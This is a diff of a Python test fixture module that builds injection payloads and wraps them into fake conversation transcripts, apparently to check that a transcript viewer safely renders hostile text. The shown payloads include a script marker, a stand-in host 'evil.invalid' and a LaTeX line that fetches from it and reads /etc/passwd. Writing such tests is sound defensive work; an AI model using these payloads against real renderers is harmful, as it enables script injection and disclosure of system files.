@@ -1,6 +1,13 @@
-"""Texts that try to run a script, fetch something or break out of where they stand."""
+"""Texts that try to run a script, fetch something or break out of their place, and conversations made of them."""
 
 from __future__ import annotations
+
+from collections.abc import Iterable
+
+from camel.core.message import Deliberation, Message, Proposal, Usage
+from camel.core.stopping import Stop
+from camel.core.task import Task
+from camel.core.transcript import Speaker, Transcript
 
 _CALL = "window.pwned=1"
 _SITE = "http://evil.invalid"
@@ -178,3 +185,35 @@ _MATHS = [
     f"$\\require{{{_SITE}}}\\input{{/etc/passwd}}$",
 ]
 PAYLOADS = list(dict.fromkeys([*_TAGS, *_BREAKS, *_MARKDOWN, *_MATHS]))
+
+
+def hostile(number: int, text: str) -> Transcript:
+    """A conversation in which everything that is shown is this text."""
+    chosen = Deliberation(text, (Proposal(text, text, reason=text), Proposal(text, parent=0)), 0, text, text)
+    messages = [
+        Message(0, "user", text, text, model=text, usage=Usage(1, 1, 0, 1), guided=text, deliberation=chosen),
+        Message(1, text, text, f"Instruction: {text}\nInput: {text}", model=text),
+        Message(2, "assistant", text, f"Solution: {text}\n\nNext request.", model=text),
+    ]
+    return Transcript(
+        f"{number}{text}",
+        Task(text, text, text),
+        [Speaker("user", text, text, text), Speaker("assistant", text, text), Speaker(text, text)],
+        messages,
+        Stop("error", text, text),
+        text,
+        {text: text, "task": text},
+        [text[:200]],
+        text,
+    )
+
+
+def hostile_crowd(number: int, texts: Iterable[str]) -> Transcript:
+    """A conversation in which each of the texts is a message of its own."""
+    texts = list(texts)
+    made = hostile(number, texts[0])
+    made.messages = [
+        Message(index, ("user", "assistant")[index % 2], text, text, model=text)
+        for index, text in enumerate(texts)
+    ]
+    return made
